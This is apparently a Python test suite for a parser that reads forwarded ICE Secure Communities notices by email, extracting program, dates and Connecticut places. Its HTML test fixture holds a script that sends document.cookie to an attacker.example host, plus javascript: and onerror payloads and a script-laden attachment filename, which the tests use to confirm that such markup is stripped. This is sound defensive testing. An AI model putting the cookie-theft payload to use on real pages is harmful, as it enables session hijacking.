"""Requirements for reading a notice someone forwarded to Vigil by email.

The corpus under tests/corpus/mail holds hand-written messages, each with the extraction a careful
reader would make of it; the targeted tests below pin the rules in inbound_mail's docstring.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chalicelib.data import load_registry
from chalicelib.domain.inbound_mail import (
    MAX_DEPTH,
    MAX_MESSAGE_BYTES,
    MAX_PARTS,
    NEW_YORK,
    NOT_FOUND,
    Extraction,
    Found,
    MalformedMessage,
    MessageTooLarge,
    html_to_text,
    looks_unrelated,
    needs_triage,
    parse_message,
)

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "mail"
RECEIVED_AT = datetime(2012, 2, 27, 17, 0, tzinfo=UTC)
REGISTRY = load_registry()
FRIDAY = "Fri, 17 Feb 2012 16:05:00 -0500"


def parse(raw: bytes, received_at: datetime = RECEIVED_AT) -> Extraction:
    return parse_message(raw, registry=REGISTRY, received_at=received_at)


def message(
    body: str,
    *,
    subject: str = "Notice",
    date: str | None = FRIDAY,
    sender: str = "ICE ERO Hartford <ero.hartford@example.gov>",
    content_type: str = 'text/plain; charset="utf-8"',
) -> bytes:
    headers = [f"From: {sender}", "To: Desk Officers <desk.officers@example.gov>", f"Subject: {subject}"]
    if date is not None:
        headers.append(f"Date: {date}")
    headers += ["MIME-Version: 1.0", f"Content-Type: {content_type}"]
    return ("\r\n".join(headers) + "\r\n\r\n" + body.replace("\r\n", "\n").replace("\n", "\r\n")).encode(
        "utf-8"
    )


# --- the corpus ----------------------------------------------------------------------------------


def corpus() -> list[Any]:
    return [pytest.param(path, id=path.stem) for path in sorted(CORPUS.glob("*.eml"))]


def test_the_corpus_covers_at_least_twelve_messages_each_with_its_expected_extraction() -> None:
    messages = {p.stem for p in CORPUS.glob("*.eml")}
    expectations = {p.name.removesuffix(".expected.json") for p in CORPUS.glob("*.expected.json")}
    assert len(messages) >= 12
    assert messages == expectations


def _instant(value: datetime | None, expected: str | None) -> None:
    if expected is None:
        assert value is None
        return
    assert value is not None
    assert value == datetime.fromisoformat(expected)


@pytest.mark.parametrize("path", corpus())
def test_corpus_message_is_extracted_as_written_by_hand(path: Path) -> None:
    expected = json.loads(path.with_suffix(".expected.json").read_text(encoding="utf-8"))
    raw = path.read_bytes()
    if "error" in expected:
        with pytest.raises(MalformedMessage) as refused:
            parse(raw)
        assert expected["reason_includes"] in refused.value.reason
        return
    x = parse(raw)
    _check_who_and_when(x, expected)
    _check_what_where_and_from_when(x, expected)
    _check_copies_and_evidence(x, expected)
    assert needs_triage(x) is expected["needs_triage"]
    if "unrelated" in expected:
        assert looks_unrelated(x) is expected["unrelated"]
    for field, certain in expected.get("certain", {}).items():
        assert getattr(x, field).certain is certain, field
    if "problems" in expected:
        assert list(x.problems) == expected["problems"]
    for wanted in expected.get("problems_include", []):
        assert any(wanted in problem for problem in x.problems), (wanted, x.problems)
    if "attachments" in expected:
        assert list(x.attachments) == expected["attachments"]
    assert all(wanted in x.text for wanted in expected.get("text_includes", []))
    assert not [unwanted for unwanted in expected.get("text_excludes", []) if unwanted in x.text]


def _check_who_and_when(x: Extraction, expected: dict[str, Any]) -> None:
    if "forwarded_by" in expected:
        assert x.forwarded_by == expected["forwarded_by"]
    for field in ("original_sender", "subject"):
        if field in expected:
            assert getattr(x, field).value == expected[field], field
    if "original_recipients" in expected:
        want = expected["original_recipients"]
        assert x.original_recipients.value == (tuple(want) if want is not None else None)
    if "sent_at" in expected:
        _instant(x.sent_at.value, expected["sent_at"])


def _check_copies_and_evidence(x: Extraction, expected: dict[str, Any]) -> None:
    if "forwarders" in expected:
        assert list(x.forwarders) == expected["forwarders"]
    if "message_id" in expected:
        assert x.message_id == expected["message_id"]
    assert x.original_id.startswith("mail:")
    for other in [expected.get("same_original_as")] if expected.get("same_original_as") else []:
        assert parse((CORPUS / f"{other}.eml").read_bytes()).original_id == x.original_id, other
    for other in expected.get("different_original_from", []):
        assert parse((CORPUS / f"{other}.eml").read_bytes()).original_id != x.original_id, other
    for field, sentence in expected.get("evidence_includes", {}).items():
        found: Found[Any] = getattr(x, field)
        assert any(sentence in s for s in found.sentences), (field, found.sentences)


def _check_what_where_and_from_when(x: Extraction, expected: dict[str, Any]) -> None:
    if "program" in expected:
        assert x.program.value == expected["program"]
    if "jurisdictions" in expected:
        want = expected["jurisdictions"]
        assert x.jurisdictions.value == (tuple(want) if want is not None else None)
    if "effective_at" in expected:
        _instant(x.effective_at.value, expected["effective_at"])
        if x.effective_at.value is not None:
            assert x.effective_at.value.isoformat() == expected["effective_at"]
            assert x.effective_at.value.tzinfo == NEW_YORK


@pytest.mark.parametrize("path", [p for p in corpus() if "malformed" not in p.id])
def test_every_value_found_says_where_it_came_from(path: Path) -> None:
    x = parse(path.read_bytes())
    fields: list[Found[Any]] = [
        x.original_sender,
        x.original_recipients,
        x.sent_at,
        x.subject,
        x.program,
        x.effective_at,
        x.jurisdictions,
    ]
    for found in fields:
        if found.value is not None:
            assert found.source
            assert found.source != NOT_FOUND
        else:
            assert not found.certain
    for found in (x.program, x.effective_at, x.jurisdictions):
        if found.value is not None:  # read from the text: the sentence it was read from is its evidence
            assert found.sentences
            assert all(sentence.strip() == sentence and "\n" not in sentence for sentence in found.sentences)


# --- forwards ------------------------------------------------------------------------------------

_GMAIL_FORWARD = """FYI, found this in the shared inbox this morning.

---------- Forwarded message ---------
From: ICE ERO Hartford <ero.hartford@example.gov>
Date: Fri, Feb 17, 2012 at 4:05 PM
Subject: Secure Communities - Connecticut
To: <desk.sergeant@example.gov>

Secure Communities will be activated statewide on Wednesday.
"""


def test_weekday_is_resolved_against_the_forwarded_messages_date_not_the_forward() -> None:
    raw = message(
        _GMAIL_FORWARD,
        subject="Fwd: Secure Communities - Connecticut",
        date="Thu, 23 Feb 2012 09:00:00 -0500",  # resolved against this, "Wednesday" would be the 29th
        sender="Desk Sergeant <desk.sergeant@example.gov>",
    )
    x = parse(raw)
    assert x.forwarded_by == "desk.sergeant@example.gov"
    assert x.original_sender.value == "ero.hartford@example.gov"
    assert x.effective_at.value is not None
    assert x.effective_at.value.isoformat() == "2012-02-22T00:00:00-05:00"
    assert x.effective_at.certain
    assert x.effective_at.source.startswith("body of the forwarded message:")


def test_an_attached_message_holding_an_inline_forward_yields_the_innermost_original() -> None:
    inner = message(
        _GMAIL_FORWARD,
        subject="Fwd: Secure Communities - Connecticut",
        date="Sat, 18 Feb 2012 08:00:00 -0500",
        sender="Desk Sergeant <desk.sergeant@example.gov>",
    ).decode()
    raw = message(
        "--b1\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
        f"--b1\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--b1--\r\n",
        subject="FW: Fwd: Secure Communities - Connecticut",
        date="Mon, 20 Feb 2012 08:00:00 -0500",
        sender="Patrol Lieutenant <patrol.lieutenant@example.gov>",
        content_type='multipart/mixed; boundary="b1"',
    )
    x = parse(raw)
    assert x.forwarded_by == "patrol.lieutenant@example.gov"
    assert x.original_sender.value == "ero.hartford@example.gov"
    assert x.original_recipients.value == ("desk.sergeant@example.gov",)
    _instant(x.sent_at.value, "2012-02-17T16:05:00-05:00")
    _instant(x.effective_at.value, "2012-02-22T00:00:00-05:00")
    assert x.jurisdictions.value == ("us-ct",)


def test_a_forward_whose_original_has_no_readable_date_uses_the_forwards_date_and_is_uncertain() -> None:
    body = _GMAIL_FORWARD.replace("Date: Fri, Feb 17, 2012 at 4:05 PM\n", "")
    x = parse(message(body, date="Fri, 17 Feb 2012 17:00:00 -0500"))
    _instant(x.effective_at.value, "2012-02-22T00:00:00-05:00")
    assert not x.effective_at.certain
    assert not x.sent_at.certain
    assert "header Date" in x.sent_at.source


def test_a_subject_saying_forwarded_without_a_forwarded_block_is_flagged() -> None:
    x = parse(message("Secure Communities will be activated statewide on Wednesday.", subject="Fwd: notice"))
    assert x.forwarded_by is None
    assert x.original_sender.value == "ero.hartford@example.gov"
    assert not x.original_sender.certain
    assert any("no forwarded message was found" in p for p in x.problems)


def test_the_forwarders_note_is_used_only_when_the_original_names_nothing_and_then_uncertainly() -> None:
    body = (
        _GMAIL_FORWARD.replace(
            "Secure Communities will be activated statewide on Wednesday.", "See the call."
        )
        .replace("Subject: Secure Communities - Connecticut", "Subject: Conference call")
        .replace("FYI, found this", "ICE says S-Comm goes statewide on Wednesday; found this")
    )
    x = parse(message(body, subject="Fwd: notice", sender="Desk Sergeant <desk.sergeant@example.gov>"))
    assert x.original_sender.value == "ero.hartford@example.gov"
    assert x.program.value == "secure-communities"
    assert not x.program.certain
    assert x.program.source.startswith("forwarder's note:")
    _instant(x.effective_at.value, "2012-02-22T00:00:00-05:00")  # from the forward's own Friday date
    assert not x.effective_at.certain


def test_a_reply_quotation_is_unwrapped_like_a_forward_and_apple_writes_its_time_after_a_comma() -> None:
    body = (
        "Passing this on.\n\n"
        "On Feb 17, 2012, at 4:05 PM, ICE ERO Hartford <ero.hartford@example.gov> wrote:\n\n"
        "> Secure Communities will be activated statewide on Wednesday.\n"
        ">\n"
        "> ICE ERO Hartford\n\n"
        "Sent from my phone\n"
    )
    x = parse(message(body, subject="Re: notice", sender="Desk Sergeant <desk.sergeant@example.gov>"))
    assert x.forwarders == ("desk.sergeant@example.gov",)
    assert x.original_sender.value == "ero.hartford@example.gov"
    assert x.original_sender.source == "'On … wrote:' line of the quoted message"
    _instant(x.sent_at.value, "2012-02-17T16:05:00-05:00")
    assert x.effective_at.source.startswith("body of the quoted message:")
    assert "Sent from my phone" not in x.effective_at.sentences[0]


@pytest.mark.parametrize(
    "body",
    [
        "The chief wrote:\nSecure Communities will be activated statewide on Wednesday.",
        "On Monday the chief wrote:\n\nSecure Communities will be activated statewide on Wednesday.",
    ],
)
def test_wrote_without_quoted_lines_below_is_only_a_sentence(body: str) -> None:
    x = parse(message(body))
    assert x.forwarded_by is None
    assert x.original_sender.value == "ero.hartford@example.gov"
    assert x.jurisdictions.value == ("us-ct",)


def test_an_attached_original_keeps_its_message_id_and_an_inline_one_has_none() -> None:
    inner = message(
        "Secure Communities will be activated statewide on Wednesday.",
        subject="Secure Communities - Connecticut",
    ).replace(b"MIME-Version", b"Message-ID: <Orig.42@Example.gov>\r\nMIME-Version")
    attached = message(
        "--b1\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
        f"--b1\r\nContent-Type: message/rfc822\r\n\r\n{inner.decode()}\r\n--b1--\r\n",
        subject="FW: Secure Communities - Connecticut",
        sender="Records Unit <records.unit@example.gov>",
        content_type='multipart/mixed; boundary="b1"',
    )
    assert parse(attached).message_id == "orig.42@example.gov"
    assert parse(inner).message_id == "orig.42@example.gov"
    assert parse(attached).original_id == parse(inner).original_id
    assert parse(message(_GMAIL_FORWARD)).message_id is None


# --- copies of one original ------------------------------------------------------------------------

_ORIGINAL = "Secure Communities will be activated statewide on Wednesday.\n\nICE ERO Hartford\n"


def _forward_of(original: str, *, date: str = "Fri, Feb 17, 2012 at 4:05 PM", note: str = "FYI.") -> bytes:
    return message(
        f"{note}\n\n---------- Forwarded message ---------\n"
        f"From: ICE ERO Hartford <ero.hartford@example.gov>\nDate: {date}\n"
        f"Subject: Secure Communities\nTo: <desk.sergeant@example.gov>\n\n{original}",
        subject="Fwd: Secure Communities",
        date="Sat, 18 Feb 2012 08:00:00 -0500",
        sender="Desk Sergeant <desk.sergeant@example.gov>",
    )


def test_copies_of_one_original_have_one_id_however_they_were_forwarded_or_quoted() -> None:
    direct = parse(message(_ORIGINAL, date="Fri, 17 Feb 2012 16:05:37 -0500")).original_id
    rewrapped = _ORIGINAL.replace("activated statewide", "activated\nstatewide").replace(
        "Wednesday.", "Wednesday. "
    )
    attribution = "On Fri, Feb 17, 2012 at 4:05 PM, ICE ERO Hartford <ero.hartford@example.gov> wrote:"
    quoted = message(
        f"Passing it on.\n\n{attribution}\n" + "".join(f"> {line}\n" for line in _ORIGINAL.splitlines()),
        sender="Patrol Supervisors <patrol.supervisors@example.gov>",
    )
    assert parse(_forward_of(_ORIGINAL)).original_id == direct
    assert parse(_forward_of(rewrapped, note="Another officer's note.")).original_id == direct
    assert parse(quoted).original_id == direct
    footer = "\nThis e-mail may contain confidential information intended for the addressee only.\n"
    assert parse(_forward_of(_ORIGINAL + footer)).original_id == direct  # a server's footer at the end
    assert parse(_forward_of(_ORIGINAL + "\n-- \nDesk Sergeant\n")).original_id == direct


@pytest.mark.parametrize(
    "changed",
    [
        {"date": "Fri, Feb 17, 2012 at 4:06 PM"},  # another minute: another message
        {"original": _ORIGINAL.replace("statewide", "in Fairfield County")},  # other words
    ],
)
def test_two_different_messages_have_two_ids(changed: dict[str, str]) -> None:
    first = parse(_forward_of(_ORIGINAL)).original_id
    other = _forward_of(
        changed.get("original", _ORIGINAL), date=changed.get("date", "Fri, Feb 17, 2012 at 4:05 PM")
    )
    assert parse(other).original_id != first


def test_an_original_without_a_date_of_its_own_is_named_by_its_sender_and_words() -> None:
    undated = _GMAIL_FORWARD.replace("Date: Fri, Feb 17, 2012 at 4:05 PM\n", "")
    on_saturday = parse(message(undated, date="Sat, 18 Feb 2012 08:00:00 -0500"))
    on_monday = parse(message(undated, date="Mon, 20 Feb 2012 08:00:00 -0500"))
    assert on_saturday.original_id == on_monday.original_id


# --- dates ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "sentence", "expected", "certain"),
    [
        (FRIDAY, "activated statewide on Wednesday", "2012-02-22T00:00:00-05:00", True),
        ("Mon, 20 Feb 2012 09:00:00 -0500", "activated this Wednesday", "2012-02-22T00:00:00-05:00", True),
        ("Thu, 16 Feb 2012 09:00:00 -0500", "activated this Wednesday", "2012-02-22T00:00:00-05:00", False),
        ("Mon, 20 Feb 2012 09:00:00 -0500", "activated next Wednesday", "2012-02-29T00:00:00-05:00", False),
        (FRIDAY, "activated next Monday", "2012-02-20T00:00:00-05:00", True),
        ("Mon, 20 Feb 2012 09:00:00 -0500", "activated next Monday", "2012-02-27T00:00:00-05:00", True),
        ("Wed, 15 Feb 2012 09:00:00 -0500", "activated on Wednesday", "2012-02-22T00:00:00-05:00", False),
        (
            "Wed, 15 Feb 2012 09:00:00 -0500",
            "activated on Wednesday at 5 p.m.",
            "2012-02-15T17:00:00-05:00",
            False,
        ),
        (FRIDAY, "activated as of Wednesday at 12:01 a.m.", "2012-02-22T00:01:00-05:00", True),
        (FRIDAY, "activated at midnight on Wednesday", "2012-02-22T00:00:00-05:00", True),
        (FRIDAY, "activated tomorrow at noon", "2012-02-18T12:00:00-05:00", True),
        (FRIDAY, "active effective immediately", "2012-02-17T16:05:00-05:00", True),
        (FRIDAY, "activated today", "2012-02-17T16:05:00-05:00", True),
        (FRIDAY, "activated on February 22", "2012-02-22T00:00:00-05:00", True),
        (FRIDAY, "activated on Feb. 22, 2012 at 12:01 a.m.", "2012-02-22T00:01:00-05:00", True),
        (FRIDAY, "activated on 2/22/2012", "2012-02-22T00:00:00-05:00", True),
        (FRIDAY, "activated on 22 February 2012 at 0001 hours", "2012-02-22T00:01:00-05:00", True),
        (FRIDAY, "activated on 2012-02-22", "2012-02-22T00:00:00-05:00", True),
        (FRIDAY, "activated on Thursday, February 22, 2012", "2012-02-22T00:00:00-05:00", False),
        ("Wed, 28 Dec 2011 09:00:00 -0500", "activated on January 3", "2012-01-03T00:00:00-05:00", True),
        ("Mon, 02 Jul 2012 09:00:00 -0400", "activated on Wednesday", "2012-07-04T00:00:00-04:00", True),
    ],
)
def test_dates_resolve_against_the_message_date_as_documented(
    sent: str, sentence: str, expected: str, certain: bool
) -> None:
    x = parse(message(f"Secure Communities will be {sentence} in all Connecticut jurisdictions.", date=sent))
    assert x.effective_at.value is not None
    assert x.effective_at.value.isoformat() == expected
    assert x.effective_at.certain is certain


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        (
            "entrará en vigor en todo el estado de Connecticut el 22 de febrero de 2012",
            "2012-02-22T00:00:00-05:00",
        ),
        ("se activará en todo Connecticut a partir del 22 de febrero", "2012-02-22T00:00:00-05:00"),
        ("comenzará en todo el estado el 5 de marzo a las 12:01 a.m.", "2012-03-05T00:01:00-05:00"),
    ],
)
def test_a_notice_in_spanish_is_read_in_spanish(sentence: str, expected: str) -> None:
    x = parse(message(f"El programa Comunidades Seguras {sentence}."))
    assert x.program.value == "secure-communities"
    assert x.jurisdictions.value == ("us-ct",)
    _instant(x.effective_at.value, expected)


def test_without_a_date_header_received_at_is_the_reference_and_the_date_is_uncertain() -> None:
    received = datetime(2012, 2, 17, 21, 30, tzinfo=UTC)  # Friday 16:30 in Hartford
    x = parse(message("Secure Communities will be activated statewide on Wednesday.", date=None), received)
    _instant(x.effective_at.value, "2012-02-22T00:00:00-05:00")
    assert not x.effective_at.certain
    assert x.sent_at.value == received
    assert not x.sent_at.certain
    assert "received_at" in x.sent_at.source


def test_a_date_named_only_outside_the_activation_is_not_the_effective_date() -> None:
    body = "Secure Communities will be activated statewide.\n\nThe briefing is on Tuesday at 10 a.m."
    x = parse(message(body))
    assert x.effective_at.value is None
    assert needs_triage(x)
    assert "no effective date found" in x.problems
    assert any("none in a sentence about the activation" in p for p in x.problems)


def test_received_at_must_be_timezone_aware() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        parse_message(message("x"), registry=REGISTRY, received_at=datetime(2012, 2, 17))


# --- programs ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "slug"),
    [
        ("Secure Communities", "secure-communities"),
        ("secure communities", "secure-communities"),
        ("S-Comm", "secure-communities"),
        ("SComm", "secure-communities"),
        ("S–Comm", "secure-communities"),
        ("the 287(g) program", "287g"),
        ("PEP", "priority-enforcement-program"),
        ("the Priority Enforcement Program", "priority-enforcement-program"),
        ("a pep talk", None),
        ("fingerprint sharing", None),
    ],
)
def test_programs_are_recognised_by_their_usual_names(written: str, slug: str | None) -> None:
    x = parse(message(f"{written} will be activated statewide on Wednesday."))
    assert x.program.value == slug


def test_when_several_programs_are_named_the_one_being_activated_wins_uncertainly() -> None:
    body = (
        "Unlike 287(g), this does not deputize officers. "
        "Secure Communities will be activated statewide on Wednesday."
    )
    x = parse(message(body))
    assert x.program.value == "secure-communities"
    assert not x.program.certain
    assert any("several programs named" in p for p in x.problems)


# --- places --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("activated statewide on Wednesday", ("us-ct",)),
        ("activated throughout Connecticut on Wednesday", ("us-ct",)),
        ("activated in all Connecticut jurisdictions on Wednesday", ("us-ct",)),
        ("activated across the state on Wednesday", ("us-ct",)),
        ("activated in every town in the state on Wednesday", ("us-ct",)),
        ("activated for the Connecticut State Police on Wednesday", None),
        ("activated in Fairfield County on Wednesday", ("us-ct/county/fairfield",)),
        (
            "activated in Hartford and New Haven counties on Wednesday",
            ("us-ct/county/hartford", "us-ct/county/new-haven"),
        ),
        ("activated in the Capitol Region on Wednesday", ("us-ct/region/capitol",)),
        ("activated in West Hartford on Wednesday", ("us-ct/town/west-hartford",)),
        (
            "activated in Bridgeport, Stamford and Norwalk on Wednesday",
            ("us-ct/town/bridgeport", "us-ct/town/stamford", "us-ct/town/norwalk"),
        ),
        (
            "activated at the Hartford Correctional Center on Wednesday",
            ("us-ct/facility/hartford-correctional-center",),
        ),
        (
            "activated on Wednesday by the ICE Hartford Field Office for Bridgeport",
            ("us-ct/town/bridgeport",),
        ),
    ],
)
def test_places_are_read_from_the_activation_sentence(
    sentence: str, expected: tuple[str, ...] | None
) -> None:
    x = parse(message(f"Secure Communities will be {sentence}."))
    assert x.jurisdictions.value == expected


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("activated statewide on Wednesday, as approved by headquarters in Washington", ("us-ct",)),
        ("activated on Wednesday at the Union Station lockup", None),
        ("activated on Wednesday, so the Franklin stove class in Lebanon, New Hampshire is moved", None),
        ("activated on Wednesday; union stewards at Kent State were told", None),
        ("activated in Kent on Wednesday", ("us-ct/town/kent",)),
        ("activated in the Town of Washington on Wednesday", ("us-ct/town/washington",)),
        ("activated on Wednesday in Salem, CT", ("us-ct/town/salem",)),
        ("activated on Wednesday for the Canterbury Police", ("us-ct/town/canterbury",)),
        (
            "activated in Union, Andover and Columbia on Wednesday",
            ("us-ct/town/union", "us-ct/town/andover", "us-ct/town/columbia"),
        ),
    ],
)
def test_town_names_that_are_common_words_are_not_matched_out_of_context(
    sentence: str, expected: tuple[str, ...] | None
) -> None:
    x = parse(message(f"Secure Communities will be {sentence}."))
    assert x.jurisdictions.value == expected


def test_an_office_named_after_its_town_is_not_the_town_whatever_its_case() -> None:
    body = "Secure Communities goes live in Fairfield County on Wednesday; call the Hartford field office."
    assert parse(message(body)).jurisdictions.value == ("us-ct/county/fairfield",)


def test_places_in_history_clauses_and_addresses_are_not_the_notices_places() -> None:
    body = (
        "Secure Communities, which has been active in Fairfield County since 2010, will be activated "
        "statewide on Wednesday.\n\nICE ERO\n450 Main Street, Hartford, CT 06103"
    )
    assert parse(message(body)).jurisdictions.value == ("us-ct",)


def test_a_notice_naming_no_place_goes_to_triage_with_the_places_seen_elsewhere() -> None:
    body = "Secure Communities will be activated on Wednesday.\n\nThis office also serves Meriden."
    x = parse(message(body))
    assert x.jurisdictions.value is None
    assert needs_triage(x)
    assert "no Connecticut jurisdiction named" in x.problems
    assert any(p.endswith("not used: Meriden") for p in x.problems)


# --- HTML and attachments ------------------------------------------------------------------------

_HTML = """<html><head><title>ICE notice</title><style>body { color: red }</style></head>
<body><script>document.location = "https://attacker.example/" + document.cookie</script>
<p>Secure Communities will be activated <b>statewide</b> on Wednesday&nbsp;&ndash; r&eacute;sum&eacute;
&lt;b&gt;not a tag&lt;/b&gt;.</p>
<p><a href="javascript:alert(1)">details</a> <img src="x" onerror="alert(2)"></p>
</body></html>"""


def test_html_is_converted_to_text_and_never_passed_on() -> None:
    raw = message(
        '--alt\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\n\r\n'
        f'--alt\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n{_HTML}\r\n--alt--\r\n',
        content_type='multipart/alternative; boundary="alt"',
    )
    x = parse(raw)
    assert "Secure Communities will be activated statewide on Wednesday – résumé" in x.text
    assert "<b>not a tag</b>" in x.text  # the sender's escaped text, decoded: plain text, never markup
    for markup in (
        "<p>",
        "<a ",
        "<img",
        "<script",
        "javascript:",
        "onerror",
        "document.cookie",
        "color: red",
    ):
        assert markup not in x.text
    assert "ICE notice" not in x.text
    assert x.program.value == "secure-communities"
    assert x.jurisdictions.value == ("us-ct",)
    assert all("<script" not in f.source for f in (x.program, x.effective_at, x.jurisdictions))


def test_a_plain_text_part_that_is_really_an_html_document_is_converted_too() -> None:
    x = parse(
        message(
            "<!DOCTYPE html><html><body><p>Secure Communities goes statewide on Wednesday.</p></body></html>"
        )
    )
    assert x.text == "Secure Communities goes statewide on Wednesday."


def test_html_to_text_survives_unclosed_head_and_broken_markup() -> None:
    assert html_to_text("<html><head><title>t</title><body><p>Hello &amp; goodbye<p>Next") == (
        "Hello & goodbye\n\nNext"
    )
    broken = html_to_text("<div><<<>>>&#xZZ;<p class='x")
    assert broken.startswith("<<<>>>&#xZZ;")
    assert "<div" not in broken


def test_attachments_are_listed_never_opened() -> None:
    parts = [
        ('text/plain; charset="utf-8"', None, "Please see the attached notice."),
        (
            "text/plain",
            'attachment; filename="notice.txt"',
            "Secure Communities will be activated statewide on Wednesday.",
        ),
        ("text/html", 'attachment; filename="notice.html"', "<script>alert(1)</script>"),
        (
            'application/x-msdownload; name="setup.exe"',
            'attachment; filename="setup.exe"',
            "TVqQAAMAAAAEAAAA",
        ),
        ("image/png", "inline", "iVBORw0KGgo="),
        ("text/calendar", None, "BEGIN:VCALENDAR"),
    ]
    body = "".join(
        f"--mix\r\nContent-Type: {ctype}\r\n"
        + (f"Content-Disposition: {disposition}\r\n" if disposition else "")
        + f"\r\n{content}\r\n"
        for ctype, disposition, content in parts
    )
    x = parse(message(body + "--mix--\r\n", content_type='multipart/mixed; boundary="mix"'))
    assert x.attachments == (
        "notice.txt (text/plain)",
        "notice.html (text/html)",
        "setup.exe (application/x-msdownload)",
        "(no filename) (image/png)",
        "(no filename) (text/calendar)",
    )
    assert x.text == "Please see the attached notice."
    assert x.program.value is None  # the attachment said it, but attachments are never read
    assert needs_triage(x)


def test_a_base64_attachment_with_a_hostile_filename_is_listed_as_plain_text() -> None:
    body = (
        "--mix\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
        "--mix\r\nContent-Type: application/pdf\r\n"
        'Content-Disposition: attachment; filename="a\tb<script>.pdf"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--mix--\r\n"
    )
    x = parse(message(body, content_type='multipart/mixed; boundary="mix"'))
    assert x.attachments == ("a b<script>.pdf (application/pdf)",)


# --- encodings -----------------------------------------------------------------------------------


def test_an_unknown_charset_is_read_with_undecodable_bytes_replaced() -> None:
    raw = message("", content_type='text/plain; charset="x-no-such-charset"') + (
        b"Secure Communities will be activated statewide on Wednesday \xff\xfe."
    )
    x = parse(raw)
    assert "Wednesday \ufffd\ufffd." in x.text
    assert x.program.value == "secure-communities"
    assert any("unknown charset 'x-no-such-charset'" in p for p in x.problems)


def test_latin1_labelled_mail_with_windows_smart_quotes_reads_as_intended() -> None:
    raw = message("", content_type='text/plain; charset="iso-8859-1"') + (
        b"\x93Secure Communities\x94 will be activated statewide on Wednesday \x96 caf\xe9."
    )
    assert "“Secure Communities” will be activated statewide on Wednesday – café." in parse(raw).text


def test_encoded_headers_are_decoded() -> None:
    raw = message(
        "Secure Communities will be activated statewide on Wednesday.",
        subject="=?utf-8?b?4oCcU2VjdXJlIENvbW11bml0aWVz4oCdIOKAlCBhdmlz?=",
        sender="=?iso-8859-1?q?Unit=E9_de_liaison?= <Liaison.Unit@Example.gov>",
    )
    x = parse(raw)
    assert x.subject.value == "“Secure Communities” — avis"
    assert x.original_sender.value == "liaison.unit@example.gov"


# --- safety --------------------------------------------------------------------------------------


def test_an_oversized_message_is_refused_before_it_is_parsed() -> None:
    raw = message("Secure Communities will be activated statewide on Wednesday.\n")
    raw += b"x" * (MAX_MESSAGE_BYTES - len(raw) + 1)
    with pytest.raises(MessageTooLarge) as refused:
        parse(raw)
    assert isinstance(refused.value, MalformedMessage)
    assert str(MAX_MESSAGE_BYTES) in refused.value.reason


def test_a_message_with_too_many_parts_is_refused() -> None:
    parts = "".join(f"--p\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n" for i in range(MAX_PARTS + 1))
    with pytest.raises(MalformedMessage, match="MIME parts"):
        parse(message(parts + "--p--\r\n", content_type='multipart/mixed; boundary="p"'))


def test_parts_nested_too_deep_are_refused() -> None:
    entity = (
        "Content-Type: text/plain\r\n\r\nSecure Communities will be activated statewide on Wednesday.\r\n"
    )
    for level in range(MAX_DEPTH + 1):
        entity = (
            f'Content-Type: multipart/mixed; boundary="n{level}"\r\n\r\n'
            f"--n{level}\r\n{entity}\r\n--n{level}--\r\n"
        )
    with pytest.raises(MalformedMessage, match="nested"):
        parse(b"From: ero.hartford@example.gov\r\n" + entity.encode())


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b" \r\n\r\n", "empty"),
        (b"just some words\nand more", "not an email"),
        (b"Subject: a note\n\nSecure Communities statewide on Wednesday", "no From header"),
        (b"From: a@example.gov\nContent-Type: multipart/mixed\n\nbody", "declares no boundary"),
        (
            b"From: a@example.gov\nContent-Type: multipart/mixed; boundary=zz\n\nno parts here",
            "boundary never appears",
        ),
    ],
)
def test_a_malformed_message_is_refused_with_a_clear_reason(raw: bytes, reason: str) -> None:
    with pytest.raises(MalformedMessage) as refused:
        parse(raw)
    assert reason in refused.value.reason


def test_something_other_than_bytes_is_refused() -> None:
    with pytest.raises(MalformedMessage, match="bytes"):
        parse_message("From: a@example.gov\n\nhi", registry=REGISTRY, received_at=RECEIVED_AT)  # type: ignore[arg-type]


# Deterministic and without a database, like the other fuzz tests: the same examples on every run.
FUZZ = settings(deadline=None, derandomize=True, database=None, suppress_health_check=[HealthCheck.too_slow])


def _parses_or_refuses(raw: bytes) -> None:
    try:
        x = parse(raw)
    except MalformedMessage as refused:
        reason = refused.reason
    else:
        assert isinstance(x, Extraction)
        assert isinstance(needs_triage(x), bool)
        return
    assert reason


@settings(FUZZ, max_examples=150)
@given(st.binary(max_size=4096))
def test_random_bytes_only_ever_raise_malformed_message(raw: bytes) -> None:
    _parses_or_refuses(raw)


_HEADERS = b"From: ero.hartford@example.gov\r\nDate: Fri, 17 Feb 2012 16:05:00 -0500\r\n"


@settings(FUZZ, max_examples=150)
@given(
    st.sampled_from([b"", b"Content-Type: multipart/mixed; boundary=b\r\n", b"Content-Type: text/html\r\n"]),
    st.binary(max_size=4096),
)
def test_random_bytes_after_real_headers_only_ever_raise_malformed_message(extra: bytes, body: bytes) -> None:
    _parses_or_refuses(_HEADERS + extra + b"\r\n" + body)


@settings(FUZZ, max_examples=120)
@given(
    st.sampled_from(sorted(CORPUS.glob("*.eml"))),
    st.floats(min_value=0, max_value=1),
    st.integers(min_value=0, max_value=200),
    st.binary(max_size=200),
)
def test_corrupted_corpus_messages_only_ever_raise_malformed_message(
    path: Path, where: float, cut: int, splice: bytes
) -> None:
    raw = path.read_bytes()
    at = int(where * len(raw))
    _parses_or_refuses(raw[:at] + splice + raw[at + cut :])
